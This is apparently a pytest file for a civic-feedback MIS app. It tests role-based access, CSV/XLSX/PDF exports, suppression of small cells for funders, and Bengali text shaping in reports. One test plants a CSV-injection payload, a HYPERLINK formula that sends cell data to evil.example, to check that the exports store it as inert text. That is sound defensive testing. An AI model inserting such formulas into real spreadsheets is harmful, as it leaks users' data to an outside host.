"""MIS routes as users meet them: who may open what, exports, reports, the Dash app."""

import csv
import io
import json
import subprocess

import openpyxl
import pytest
from sqlalchemy import select

from awaaz.ops.demo import seed_demo
from models import AuditEvent, Role
from tests.conftest import CODE_KEY
from tests.dash import tab_request
from tests.factories import UserFactory

PERIOD = "2026Q3"
STAFF_ONLY = [
    "/mis/",
    "/mis/_dash-layout",
    "/mis/_dash-dependencies",
    f"/mis/export/league-table.csv?period={PERIOD}",
    f"/mis/export/league-table.xlsx?period={PERIOD}",
    f"/mis/report.pdf?period={PERIOD}",
]
FUNDER_TOO = [
    "/mis/funder/",
    "/mis/funder/_dash-layout",
    f"/mis/export/funder-summary.csv?period={PERIOD}",
]


@pytest.fixture
def programme(session):
    import datetime as dt

    seed_demo(session, ratings=1500, seed=4, code_key=CODE_KEY, today=dt.date(2026, 11, 20))


def sign_in(client, auth, role):
    UserFactory(email=f"{role}@example.org", role=role)
    auth.login(f"{role}@example.org")


@pytest.mark.parametrize("path", STAFF_ONLY + FUNDER_TOO)
def test_anonymous_visitors_are_sent_to_sign_in(client, path):
    response = client.get(path)
    assert response.status_code in (302, 401)
    if response.status_code == 302:
        assert response.headers["Location"].startswith("/staff/login")


def test_dash_callbacks_refuse_anonymous_calls(client):
    response = client.post("/mis/_dash-update-component", json={"output": "tab-body.children"})
    assert response.status_code == 401


@pytest.mark.parametrize(
    ("role", "path", "status"),
    [
        *[(Role.FUNDER, p, 403) for p in STAFF_ONLY],
        *[(Role.FIELD, p, 403) for p in STAFF_ONLY + FUNDER_TOO],
        *[(Role.FUNDER, p, 200) for p in FUNDER_TOO],
        *[(Role.STAFF, p, 200) for p in STAFF_ONLY + FUNDER_TOO],
    ],
)
def test_each_role_reaches_only_its_pages(client, auth, session, programme, role, path, status):
    sign_in(client, auth, role)
    response = client.get(path)
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    if status == 403:
        refused = session.scalars(select(AuditEvent).filter_by(action="access.refused")).all()
        assert refused and refused[-1].detail["path"] == path.split("?")[0]


def rows(response):
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_the_league_table_csv_has_the_columns_of_the_spec(client, auth, session, programme):
    sign_in(client, auth, Role.STAFF)
    response = client.get(
        f"/mis/export/league-table.csv?period={PERIOD}&type=police&district=South 24 Parganas"
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    table = rows(response)
    for column in [
        "stakeholder_id",
        "stakeholder",
        "type",
        "district",
        "block",
        "n_raters",
        "score",
        "score_low",
        "score_high",
        "rank",
    ]:
        assert column in table[0]
    assert {r["type"] for r in table} == {"police"}
    assert {r["district"] for r in table} == {"South 24 Parganas"}
    for row in table:
        if row["suppressed"] == "true":
            assert row["score"] == row["n_raters"] == row["rank"] == ""
        else:
            assert int(row["n_raters"]) >= 5 and 0 <= float(row["score"]) <= 100
    event = session.scalars(select(AuditEvent).filter_by(action="export")).one()
    assert event.detail["format"] == "csv" and event.detail["period"] == PERIOD


def test_the_league_table_export_has_words_dimensions_and_indicators(
    client, auth, session, programme
):
    sign_in(client, auth, Role.STAFF)
    client.get("/staff/lang/bn")
    table = rows(client.get(f"/mis/export/league-table.csv?period={PERIOD}"))
    extra = [
        "type_label",
        "stakeholder_local",
        "district_local",
        "respect",
        "integrity",
        "share_helped",
        "share_money",
        "median_days",
    ]
    assert all(column in table[0] for column in extra)
    # The code in its own column, the words beside it.
    assert {r["type_label"] for r in table if r["type"] == "police"} == {"থানা"}
    for row in table:
        if row["suppressed"] == "true":  # hidden means hidden in every column
            assert all(row[c] == "" for c in ("respect", "share_helped", "median_days"))
    assert any(r["respect"] for r in table if r["suppressed"] == "false")


def test_the_funder_summary_hides_small_cells(client, auth, programme):
    sign_in(client, auth, Role.FUNDER)
    table = rows(client.get(f"/mis/export/funder-summary.csv?period={PERIOD}"))
    assert table and {"district", "type", "n_raters", "suppressed", "type_label"} <= set(table[0])
    assert {r["type_label"] for r in table if r["type"] == "hospital"} == {"Hospital"}
    for row in table:
        if row["suppressed"] == "true":
            assert row["n_raters"] == "" and row.get("score", "") == ""
        elif row["type"] != "(all)" and row["district"] != "(all)":
            assert int(row["n_raters"]) >= 11


def test_funder_summaries_are_never_monthly(client, auth, programme):
    sign_in(client, auth, Role.FUNDER)
    response = client.get("/mis/export/funder-summary.csv?period=2026-08")
    assert response.status_code == 400 and b"quarter" in response.data


@pytest.mark.parametrize(
    "query", ["period=2026Q9", "period=2026Q3&type=wizard", "period=2026Q3&district=Atlantis"]
)
def test_bad_export_parameters_are_explained(client, auth, programme, query):
    sign_in(client, auth, Role.STAFF)
    response = client.get(f"/mis/export/league-table.csv?{query}")
    assert response.status_code == 400 and response.mimetype == "text/plain"


def test_the_league_table_downloads_as_excel(client, auth, programme):
    sign_in(client, auth, Role.STAFF)
    response = client.get(f"/mis/export/league-table.xlsx?period={PERIOD}")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert [c.value for c in sheet[1]][:3] == ["period", "stakeholder_id", "stakeholder"]


def test_the_dash_app_answers_a_signed_in_staff_member(client, auth, programme):
    sign_in(client, auth, Role.STAFF)
    layout = client.get("/mis/_dash-layout")
    assert layout.status_code == 200
    assert PERIOD in layout.get_data(as_text=True)
    body = tab_request("league", PERIOD)
    response = client.post("/mis/_dash-update-component", json=body)
    assert response.status_code == 200
    assert "league-grid" in json.dumps(response.get_json())


def pdf_text(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def test_the_bengali_report_is_shaped_text_in_a_bengali_font(client, auth, programme, tmp_path):
    sign_in(client, auth, Role.STAFF)
    response = client.get(f"/mis/report.pdf?period={PERIOD}&lang=bn")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    path = tmp_path / "report.pdf"
    path.write_bytes(response.data)
    fonts = subprocess.run(
        ["pdffonts", str(path)], capture_output=True, text=True, check=True
    ).stdout
    assert "Bengali" in fonts
    text = pdf_text(response.data, tmp_path)
    # Text extraction returns Bengali glyph by glyph in visual order, so pre-base vowel signs
    # move; but conjunct glyphs (প্র, র্ট) exist only if HarfBuzz shaped the text, and whole
    # words without pre-base signs come back intact. Tofu would extract as nothing at all.
    assert "প্রধান সূচক" in text  # "Headline indicators"
    assert "র্ট" in text.replace(" ", "")  # the reph conjunct of রিপোর্ট, "report"
    # A vowel sign that could not join its consonant is drawn on a dotted circle (U+25CC).
    assert "\u25cc" not in text
    subprocess.run(
        ["pdftoppm", "-r", "50", "-png", "-f", "1", "-l", "1", str(path), str(tmp_path / "page")],
        check=True,
    )
    assert (tmp_path / "page-1.png").stat().st_size > 10_000


def test_the_funder_report_names_no_stakeholder(client, auth, session, programme, tmp_path):
    from models import Stakeholder

    sign_in(client, auth, Role.FUNDER)
    response = client.get(f"/mis/report/funder.pdf?period={PERIOD}")
    assert response.status_code == 200
    text = pdf_text(response.data, tmp_path)
    names = session.scalars(select(Stakeholder.name)).all()
    assert not any(name in text for name in names)


def test_the_report_command_writes_a_pdf(runner, programme, tmp_path):
    out = tmp_path / "r.pdf"
    result = runner.invoke(
        args=[
            "report",
            "--period",
            PERIOD,
            "--lang",
            "en",
            "--audience",
            "funder",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"%PDF")
    bad = runner.invoke(
        args=["report", "--period", "2026-08", "--audience", "funder", "--out", str(out)]
    )
    assert bad.exit_code != 0 and "quarter" in bad.output


def test_exports_hold_no_live_formula(client, auth, session, programme):
    """A registry name (or a survivor's suggestion, once approved) that a spreadsheet would run
    (OWASP CSV injection) is written as text in CSV and in XLSX."""
    from sqlalchemy import update

    from models import Stakeholder

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    session.execute(update(Stakeholder).values(name=evil))
    session.commit()
    sign_in(client, auth, Role.STAFF)
    table = rows(client.get(f"/mis/export/league-table.csv?period={PERIOD}"))
    assert table and {r["stakeholder"] for r in table} == {"'" + evil}
    book = client.get(f"/mis/export/league-table.xlsx?period={PERIOD}").get_data()
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and {c.data_type for c in cells} == {"s"}


def test_the_quarterly_report_shows_change_trend_declines_and_failed_services(
    client, auth, programme, tmp_path
):
    sign_in(client, auth, Role.STAFF)
    response = client.get(f"/mis/report.pdf?period={PERIOD}")
    assert response.status_code == 200
    text = pdf_text(response.data, tmp_path)
    assert "Mean score by quarter" in text and "2026Q2" in text  # the trend
    assert "Most declined" in text
    assert ("better" in text) or ("worse" in text) or ("no clear change" in text)


def test_the_funder_report_names_districts_in_bengali_and_says_why_blanks_are_blank(
    client, auth, programme, tmp_path
):
    sign_in(client, auth, Role.FUNDER)
    response = client.get(f"/mis/report/funder.pdf?period={PERIOD}&lang=bn")
    assert response.status_code == 200
    text = pdf_text(response.data, tmp_path)
    assert "South 24 Parganas" not in text and "North 24 Parganas" not in text
    assert "—¹" in text or "—²" in text or "¹" in text
